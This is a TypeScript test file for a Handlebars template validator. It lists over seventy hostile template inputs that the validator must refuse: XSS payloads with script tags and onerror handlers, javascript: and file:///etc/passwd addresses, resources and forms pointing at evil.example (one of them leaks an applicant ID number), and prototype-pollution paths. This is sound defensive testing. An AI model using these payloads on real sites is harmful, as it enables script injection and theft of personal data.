import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { partialCircles, templateFaults } from "./check.ts";
import { templateLimits } from "./limits.ts";

const known = { partials: ["head", "seal"] };
const nested = (times: number, open: string, close: string): string =>
  open.repeat(times) + "x" + close.repeat(times);

/** What a hostile or careless template may try: the text, the code of its first fault, and the line. */
const hostile: [what: string, source: unknown, code: string, line?: number][] = [
  ["a script", "<p>\n<script>alert(1)</script>", "html-tag", 2],
  ["a script in capitals", "<SCRIPT src=x></SCRIPT>", "html-tag"],
  ["an event attribute", '<p>a</p>\n\n<img src="{{a}}" onerror="alert(1)">', "html-event", 3],
  ["an event attribute without quotes", "<p onclick=alert(1)>a</p>", "html-event"],
  ["an event attribute behind a slash", "<svg/onload=alert(1)>", "html-event"],
  ["a frame", '<iframe src="file:///etc/passwd"></iframe>', "html-tag"],
  ["an object", '<object data="x"></object>', "html-tag"],
  ["an embed", '<embed src="x">', "html-tag"],
  ["a link", '<a href="javascript:alert(1)">x</a>', "html-tag"],
  ["a base", '<base href="http://evil.example/">', "html-tag"],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example">', "html-tag"],
  ["a stylesheet from outside", '<link rel="stylesheet" href="http://evil.example/x.css">', "html-tag"],
  ["a form", '<form action="http://evil.example"><input></form>', "html-tag"],
  ["a foreign object in a drawing", "<svg><foreignObject></foreignObject></svg>", "html-tag"],
  ["an animation in a drawing", '<svg><set attributeName="onload"/></svg>', "html-tag"],
  ["an image from outside", '<img src="http://evil.example/x.png">', "html-address"],
  ["an image from the disk", '<img src="file:///etc/passwd">', "html-address"],
  ["a script address in an image", '<img src="java&#x73;cript:alert(1)">', "html-address"],
  ["a page as a data address", '<img src="data:text/html,<script>1</script>">', "html-address"],
  [
    "an address made of a value and text",
    '<img src="http://evil.example/{{applicant.idNumber}}">',
    "html-address",
  ],
  [
    "a reference outside in a drawing",
    '<svg><use xlink:href="http://evil.example/x.svg#a"/></svg>',
    "html-attribute",
  ],
  ["a srcset", '<img srcset="http://evil.example/x 1x">', "html-attribute"],
  ["an import in a style", "<style>\n@import url(http://evil.example/x.css);</style>", "css-import", 2],
  [
    "a font from outside",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x)}</style>",
    "css-font",
  ],
  ["an address in a style", "<style>p{background:url(http://evil.example/x)}</style>", "css-url"],
  ["an escaped address in a style", "<style>p{background:\\75rl(http://evil.example/x)}</style>", "css-url"],
  ["an address in a style attribute", '<p style="background:url(//evil.example)">x</p>', "css-url"],
  ["an expression in a style attribute", '<p style="width:expression(alert(1))">x</p>', "css-code"],
  ["a value in a style attribute", '<p style="color:{{a}}">x</p>', "value-in-style"],
  ["a value in a style", "<style>p{color:{{a}} }</style>", "value-place"],
  ["a value as a tag", "<{{a}}>x</p>", "value-place"],
  ["a value as an attribute", "<p {{a}}>x</p>", "value-place"],
  ["a value without quotes", "<p title={{a}}>x</p>", "value-place"],
  ["a value in a comment", "<!-- {{a}} -->", "value-place"],
  ["a comment that the browser ends early", "<!--><img src=x onerror=alert(1)>-->", "html-comment"],
  ["a comment", "a\n<!-- b -->", "html-comment", 2],
  ["a declaration", "<!ENTITY x>", "html-markup"],
  [
    "a style in a drawing that holds markup",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "css-markup",
  ],
  ["an escaped letter in an address", "<style>p{background:u\\rl(http://evil.example)}</style>", "css-url"],
  ["a tag left open", "<p>a</p><b", "html-open"],
  ["a processing instruction", "<?php echo 1 ?>", "html-markup"],
  ["raw output", "a\nb {{{applicant.name}}}", "raw", 2],
  ["raw output by ampersand", "{{&applicant.name}}", "raw"],
  ["the constructor", "{{applicant.constructor}}", "path-forbidden"],
  ["the constructor by itself", "\n{{constructor}}", "path-forbidden", 2],
  ["the prototype", "{{applicant.__proto__.x}}", "path-forbidden"],
  ["the prototype in brackets", "{{applicant.[__proto__]}}", "path-forbidden"],
  ["the prototype of the root", "{{@root.__proto__.polluted}}", "path-forbidden"],
  ["an inherited method", "{{applicant.toString}}", "path-forbidden"],
  ["a getter maker", "{{this.__defineGetter__}}", "path-forbidden"],
  ["an inner name", "{{@root.__seal.organ}}", "path-forbidden"],
  ["lookup", '{{lookup applicant "constructor"}}', "helper-unknown"],
  ["log", '{{log "x"}}', "helper-unknown"],
  ["the inner helper", '{{__out "a" b}}', "helper-unknown"],
  ["a helper that does not exist", "x\n{{chinesedate document.date}}", "helper-unknown", 2],
  ["helperMissing", "{{helperMissing 1}}", "helper-unknown"],
  ["blockHelperMissing", "{{#blockHelperMissing a}}x{{/blockHelperMissing}}", "helper-unknown"],
  ["a section over a value", "{{#applicant}}x{{/applicant}}", "helper-unknown"],
  ["an unknown helper inside another", "{{#if (exec 'ls')}}x{{/if}}", "helper-unknown"],
  ["too many arguments", "{{eq a b c}}", "helper-arguments"],
  ["a block helper without a block", "{{each items}}", "helper-kind"],
  ["an option that does not exist", '{{date a format="x"}}', "helper-option"],
  ["a decorator", '{{* decorate "x"}}', "decorator"],
  ["an inline partial", '{{#*inline "head"}}{{> head}}{{/inline}}', "decorator"],
  ["a partial that does not exist", "a\n\n{{> haed}}", "partial-unknown", 3],
  ["a computed partial", '{{> (t "head")}}', "partial-dynamic"],
  ["a partial inside a tag", "<p {{> head}}>x</p>", "partial-place"],
  ["a prototype as a named argument", "{{> head __proto__=a}}", "path-forbidden"],
  ["data that does not exist", "{{@partials.x}}", "data-unknown"],
  ["a branch that leaves a tag open", "{{#if a}}<p {{else}}<b>{{/if}}", "html-branch"],
  ["a block that is not closed", "{{#if a}}\nx", "syntax", 2],
  ["blocks that cross", "{{#if a}}\n{{#each b}}{{/if}}{{/each}}", "syntax"],
  ["half a value", "a\nb\n{{applicant.", "syntax", 3],
  ["something that is not a text", { type: "Program", body: [] }, "not-text"],
  ["a list", ["{{a}}"], "not-text"],
  ["a huge template", "x".repeat(templateLimits.sourceChars + 1), "source-size"],
  ["too many values", "{{a}}".repeat(templateLimits.nodes), "size"],
  ["blocks without end", nested(200, "{{#if a}}", "{{/if}}"), "depth"],
  ["expressions without end", `{{t ${nested(4000, "(t ", ")")}}}`, "depth"],
];

describe("checking templates", () => {
  for (const [what, source, code, line] of hostile)
    it(`refuses ${what} and names the place`, () => {
      const found = templateFaults(source, known);
      const fault = found.find((candidate) => candidate.code === code);
      assert.ok(fault, `expected ${code}, found ${JSON.stringify(found.slice(0, 3))}`);
      assert.ok(fault.line >= 1 && fault.column >= 1);
      if (line !== undefined) assert.equal(fault.line, line);
      assert.ok(fault.message.zh.length > 0 && fault.message.en.length > 0);
    });

  it("knows more than fifty ways to be hostile", () => {
    assert.ok(hostile.length > 50);
  });

  it("says what was probably meant", () => {
    assert.match(templateFaults("{{> haed}}", known)[0]?.message.en ?? "", /did you mean “head”/);
    assert.match(templateFaults("{{dates a}}", known)[0]?.message.zh ?? "", /是否指“date”/);
  });

  it("accepts what documents need", () => {
    const source = `<style>p { color: #000; background: url(data:image/png;base64,AA) }</style>
{{> head}}<h1 title="{{t document.title}}">{{t document.title}}</h1>
{{#each items as |it|}}<p>{{inc @index}} {{t it.name}} {{#unless @last}}、{{/unless}}</p>{{else}}—{{/each}}
{{#if (and (eq a "b") (not c))}}x{{else if d}}y{{else}}z{{/if}}
{{#with item}}{{name}} {{../case.no}} {{@root.case.no}}{{/with}}
<img src="{{document.qr}}" alt=""><svg viewBox="0 0 1 1"><path d="M0 0"/></svg>{{seal}}{{! a note }}`;
    assert.deepEqual(templateFaults(source, known), []);
  });

  it("finds partials that call each other in a circle and names the way round", () => {
    const circles = partialCircles({
      a: "{{> b}}",
      b: "x\n{{#if y}}{{> c}}{{/if}}",
      c: "{{> a}}",
      d: "{{> a}}",
    });
    assert.equal(circles.length, 1);
    assert.deepEqual(circles[0]?.names, ["a", "b", "c", "a"]);
    assert.deepEqual(partialCircles({ a: "{{> b}}{{> c}}", b: "{{> c}}", c: "x" }), []);
  });

  it("finds nothing wrong in the templates of this repository", () => {
    const root = fileURLToPath(new URL("../../../../../templates/", import.meta.url));
    const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((file) =>
      file.endsWith(".hbs"),
    );
    const partials = files
      .filter((file) => file.startsWith("partials"))
      .map((file) => file.replace(/^partials.|\.hbs$/g, ""));
    assert.ok(files.length > 10);
    for (const file of files)
      assert.deepEqual(templateFaults(readFileSync(join(root, file), "utf8"), { partials }), [], file);
  });
});
